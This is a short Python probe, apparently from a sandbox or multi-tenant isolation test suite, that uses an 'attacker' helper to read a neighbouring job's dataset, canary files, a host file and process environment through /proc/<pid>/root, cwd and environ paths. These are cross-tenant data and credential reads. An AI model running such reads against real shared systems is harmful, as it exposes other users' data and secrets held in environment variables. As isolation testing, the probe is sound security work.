"""Read another job's dataset through the root folder of its process."""

from attacker import PLAN, hunt

for number in (PLAN["bystander"], PLAN["neighbour_pid"]):
    hunt(f"/proc/{number}/root/data/inputs/{PLAN['neighbour_dataset']}/0")
    hunt(f"/proc/{number}/root/scratch/canary")
    hunt(f"/proc/{number}/root{PLAN['host_file']}")
    hunt(f"/proc/{number}/cwd/canary")
    hunt(f"/proc/{number}/environ")
